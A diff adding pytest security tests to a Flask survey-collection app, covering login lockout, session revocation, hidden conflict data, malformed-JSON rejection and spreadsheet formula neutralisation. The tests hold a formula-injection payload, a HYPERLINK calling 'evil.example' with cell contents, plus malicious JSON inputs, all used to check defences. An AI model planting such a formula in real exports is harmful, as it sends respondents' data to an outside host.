@@ -18,7 +18,7 @@ from sqlalchemy import select
 from sqlalchemy import text as sa_text
 
 from survey_app.extensions import db
-from survey_app.models import Submission
+from survey_app.models import AuditLog, Submission
 
 from .test_results import login, results, write_report  # noqa: F401  (fixture)
 
@@ -240,9 +240,8 @@ def test_womens_answers_never_reach_the_database_or_logs_in_clear(
     # The enumerator corrects the returned interview in the form and submits again.
     auth.login("enum178")
     page = client.get(f"/collect/interview/{sent['uuid']}").get_data(as_text=True)
-    assert (
-        SECRETS["sent"].split()[0] in page
-    )  # the enumerator still holds the values before submission
+    # The enumerator still holds the values before submission.
+    assert SECRETS["sent"].split()[0] in page
     row_version = int(re.search(r'"row_version": (\d+)', page).group(1))
     fixed = _women_answers(SECRETS["fixed"])
     response = client.post(
@@ -414,3 +413,322 @@ def test_migration_seals_womens_answers_stored_in_clear(database_url, tmp_path) 
     finally:
         if not url.startswith("sqlite"):
             drop_pg_database(url)
+
+
+# ----------------------------------------------------------------------------- corrections
+
+
+def test_every_failed_correction_of_an_ordinary_interview_is_audited(
+    app,
+    client,
+    auth,
+    world,  # noqa: ANN001
+) -> None:
+    auth.login("sup178")
+    attempts = [
+        {"question_id": "NOPE", "value": "1", "reason": "typo"},
+        {"question_id": "HH02", "value": "1", "reason": ""},
+        {"question_id": "HH02", "value": "-5", "reason": "range"},
+    ]
+    for data in attempts:
+        client.post(f"/review/{world.own_submitted}/correct", data=data)
+    with app.app_context():
+        refused = db.session.scalars(
+            select(AuditLog).where(AuditLog.action == "submission.correct_refused")
+        ).all()
+    assert len(refused) == len(attempts)
+
+
+# ----------------------------------------------------------------------------- conflicts
+
+
+def _conflict_across_districts(app, client, auth, world, answers=None, questionnaire_id=None):  # noqa: ANN001, ANN202
+    """enum178 sends, under the UUID of district 180's stored interview, other content."""
+    from .sync_helpers import envelope
+
+    auth.login("enum178")
+    kwargs = {"uuid": world.other_submitted}
+    if questionnaire_id:
+        kwargs["questionnaire_id"] = questionnaire_id
+    sent = envelope(answers, **kwargs)
+    response = client.post("/api/v1/submissions", json=sent)
+    assert response.status_code == 409, response.get_json()
+    auth.logout()
+    return sent
+
+
+def test_conflict_is_hidden_from_a_supervisor_of_the_stored_interviews_district(
+    app,
+    client,
+    auth,
+    world,  # noqa: ANN001
+) -> None:
+    from survey_app.submissions import put_answers
+
+    from .test_collect import GOOD_ANSWERS
+
+    with app.app_context():
+        other = db.session.scalar(
+            select(Submission).where(Submission.uuid == world.other_submitted)
+        )
+        put_answers(other, {**GOOD_ANSWERS, "HH01": "Người Tràng Định"})
+        db.session.commit()
+    _conflict_across_districts(app, client, auth, world)
+    for user, sees in (("sup178", False), ("sup180", False), ("admin", True)):
+        auth.login(user)
+        page = client.get("/review/conflicts").get_data(as_text=True)
+        auth.logout()
+        assert (world.other_submitted in page) == sees, user
+        assert "Người Tràng Định" not in page and "Hoàng Văn A" not in page
+
+
+def test_womens_envelope_under_a_household_uuid_shows_no_answer(
+    app,
+    client,
+    auth,
+    world,  # noqa: ANN001
+) -> None:
+    _women_world(app)
+    from .sync_helpers import envelope
+
+    auth.login("enum178")
+    sent = envelope(
+        _women_answers(SECRETS["sent"]), uuid=world.own_submitted, questionnaire_id="test_women"
+    )
+    assert client.post("/api/v1/submissions", json=sent).status_code == 409
+    auth.logout()
+    auth.login("sup178")
+    page = client.get("/review/conflicts").get_data(as_text=True)
+    assert world.own_submitted in page
+    assert "Zyxel" not in page and "HH02" not in page and "E01" not in page
+    assert SECRETS["sent"].split()[0] not in _dump(app)
+
+
+# ----------------------------------------------------------------------------- login
+
+
+def test_account_is_locked_after_repeated_failures_even_for_the_right_password(
+    app,
+    client,
+    auth,
+    world,  # noqa: ANN001
+) -> None:
+    for _ in range(5):
+        assert auth.login("enum178", "wrong password").status_code == 200
+    response = auth.login("enum178")
+    assert response.status_code == 429
+    assert "Đăng nhập sai quá nhiều lần" in response.get_data(as_text=True)
+    assert client.get("/collect/").status_code == 302  # not logged in
+    client.post("/auth/language", data={"language": "en"})
+    response = auth.login("enum178")
+    assert "Too many failed logins" in response.get_data(as_text=True)
+    with app.app_context():
+        lockouts = db.session.scalars(
+            select(AuditLog).where(AuditLog.action == "auth.lockout")
+        ).all()
+        assert lockouts and lockouts[0].object_id == "user:enum178"
+        # Once the lock has passed, the right password works and clears the count.
+        from survey_app.security.models import LoginThrottle
+
+        for row in db.session.scalars(select(LoginThrottle)):
+            row.locked_until = None
+        db.session.commit()
+    assert auth.login("enum178").status_code == 302
+
+
+def test_address_is_locked_after_failures_on_many_names(app, client, auth, world) -> None:  # noqa: ANN001
+    app.config["LOGIN_MAX_FAILURES_ADDRESS"] = 4
+    for name in ("a1", "a2", "a3", "a4"):
+        auth.login(name, "guess")
+    assert auth.login("sup178").status_code == 429
+
+
+def test_unknown_names_cost_a_password_check_like_known_ones(
+    app,
+    client,
+    auth,
+    world,
+    monkeypatch,  # noqa: ANN001
+) -> None:
+    import survey_app.security.login as login_module
+
+    checked = []
+    real = login_module.check_password_hash
+    monkeypatch.setattr(
+        login_module, "check_password_hash", lambda h, p: checked.append(h) or real(h, p)
+    )
+    auth.login("nobody-by-this-name", "x")
+    assert len(checked) == 1
+    assert checked[0].startswith(app.config["PASSWORD_HASH_METHOD"].split(":")[0])
+
+
+# ----------------------------------------------------------------------------- sessions
+
+
+def _cookie(client) -> str:  # noqa: ANN001
+    return client.get_cookie("session").value
+
+
+def test_session_cookie_copied_before_logout_no_longer_works(app, client, auth, world) -> None:  # noqa: ANN001
+    auth.login("enum178")
+    stolen = _cookie(client)
+    auth.logout()
+    thief = app.test_client()
+    thief.set_cookie("session", stolen, domain="localhost")
+    assert thief.get("/collect/").status_code == 302
+
+
+def test_password_reset_ends_sessions_and_revokes_tokens(
+    app,
+    client,
+    auth,
+    world,
+    runner,  # noqa: ANN001
+) -> None:
+    from survey_app.admin.services import update_user
+    from survey_app.models import User
+
+    token = runner.invoke(["users", "token", "enum178"]).output.strip()
+    auth.login("enum178")
+    assert client.get("/collect/").status_code == 200
+    bearer = {"Authorization": f"Bearer {token}"}
+    assert app.test_client().get("/api/v1/assignments", headers=bearer).status_code == 200
+    with app.app_context():
+        user = db.session.scalar(select(User).where(User.username == "enum178"))
+        update_user(
+            user,
+            role=user.role,
+            area_code="17801001",
+            language=user.language,
+            active=True,
+            password="a new long password",
+        )
+        db.session.commit()
+    assert client.get("/collect/").status_code == 302
+    assert app.test_client().get("/api/v1/assignments", headers=bearer).status_code == 401
+    assert auth.login("enum178", "a new long password").status_code == 302
+
+
+# ----------------------------------------------------------------------------- malformed input
+
+DEEP = "[" * 5000 + "]" * 5000
+BAD_JSON = {
+    "deep": '{"answers": {"HH01": ' + DEEP + '}, "page": 0, "row_version": 1}',
+    "nan": '{"answers": {"HH02": NaN}, "page": 0, "row_version": 1}',
+    "infinity": '{"answers": {"HH02": -Infinity}, "page": 0, "row_version": 1}',
+    "nul": '{"answers": {"HH01": "a\\u0000b"}, "page": 0, "row_version": 1}',
+    "surrogate": '{"answers": {"HH01": "a\\ud800b"}, "page": 0, "row_version": 1}',
+    "huge_number": '{"answers": {"HH02": 1e999}, "page": 0, "row_version": 1}',
+}
+NAMED = {
+    "deep": "sâu quá",
+    "nan": "NaN",
+    "infinity": "Infinity",
+    "nul": "NUL",
+    "surrogate": "surrogate",
+    "huge_number": "vô hạn",
+}
+
+
+@pytest.mark.parametrize("kind", sorted(BAD_JSON))
+@pytest.mark.parametrize("what", ["draft", "submit"])
+def test_draft_and_submit_refuse_malformed_json_naming_the_problem(
+    app,
+    client,
+    auth,
+    world,
+    kind,
+    what,  # noqa: ANN001
+) -> None:
+    auth.login("enum178")
+    response = client.post(
+        f"/collect/interview/{world.own_draft}/{what}",
+        data=BAD_JSON[kind],
+        content_type="application/json",
+    )
+    assert response.status_code == 422
+    assert NAMED[kind] in response.get_json()["error"]
+    with app.app_context():
+        row = db.session.scalar(select(Submission).where(Submission.uuid == world.own_draft))
+        assert row.answers == {} and row.row_version == 1
+
+
+@pytest.mark.parametrize("kind", sorted(BAD_JSON))
+def test_api_refuses_malformed_json_naming_the_problem(app, client, auth, world, kind) -> None:  # noqa: ANN001
+    from .sync_helpers import envelope
+
+    auth.login("enum178")
+    body = BAD_JSON[kind].replace('"page": 0, "row_version": 1', '"uuid": "x"')
+    body = body.replace("{", '{"sha256": "0", ', 1) if kind != "deep" else body
+    response = client.post("/api/v1/submissions", data=body, content_type="application/json")
+    assert response.status_code == 422
+    assert NAMED[kind] in response.get_json()["error"]
+    assert client.post("/api/v1/submissions", json=envelope()).status_code == 201
+
+
+def test_outbox_import_of_a_deeply_nested_file_is_a_message(app, client, auth, world) -> None:  # noqa: ANN001
+    auth.login("admin")
+    data = '{"format": "gesurvey-outbox", "username": "enum178", "submissions": [' + DEEP + "]}"
+    response = client.post(
+        "/admin/import-outbox",
+        data={"file": (io.BytesIO(data.encode()), "deep.json")},
+        content_type="multipart/form-data",
+    )
+    assert response.status_code == 200
+    assert "deep.json" in response.get_data(as_text=True)
+    assert "sâu quá" in response.get_data(as_text=True)
+
+
+# ----------------------------------------------------------------------------- formulas
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
+
+
+def test_formula_answers_are_text_in_xlsx_and_neutralised_in_csv(app, tmp_path) -> None:  # noqa: ANN001
+    from openpyxl import load_workbook
+
+    _export_with_formula(app, tmp_path)
+    csv_text = (tmp_path / "csv" / "household.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
+    book = load_workbook(tmp_path / "xlsx" / "household.xlsx")
+    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def _export_with_formula(app, tmp_path) -> None:  # noqa: ANN001
+    from survey_app.admin.services import create_user
+    from survey_app.models import Area
+    from survey_app.questionnaire_store import publish_bundled
+
+    from .conftest import TEST_PASSWORD
+    from .test_export import HOUSEHOLD, make_submission, run_export
+
+    with app.app_context():
+        province = Area(code="20", name="Lạng Sơn", level="province")
+        district = Area(code="178", name="TP", level="district", parent=province)
+        commune = Area(code="17801", name="CL", level="commune", parent=district)
+        village = Area(code="17801001", name="K1", level="village", parent=commune)
+        db.session.add_all([province, district, commune, village])
+        create_user("admin", "admin", TEST_PASSWORD)
+        create_user("enum", "enumerator", TEST_PASSWORD)
+        publish_bundled()
+        make_submission("household", {**HOUSEHOLD, "HH01": FORMULA}, "approved")
+        db.session.commit()
+    for fmt in ("csv", "xlsx"):
+        run_export(app, fmt, tmp_path / fmt, username="admin", include_identifying=True)
+
+
+def test_report_tables_neutralise_formulas_in_csv_and_excel(tmp_path) -> None:  # noqa: ANN001
+    from openpyxl import Workbook
+
+    from questionnaires.cells import csv_cell, text_cells_only
+
+    assert csv_cell(FORMULA) == "'" + FORMULA and csv_cell("-0.5") == "-0.5"
+    assert csv_cell("\tcmd") == "'\tcmd" and csv_cell("@SUM(1)") == "'@SUM(1)"
+    book = Workbook()
+    book.active["A1"] = FORMULA
+    text_cells_only(book).save(tmp_path / "t.xlsx")
+    from openpyxl import load_workbook
+
+    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
+    assert cell.value == FORMULA and cell.data_type == "s"
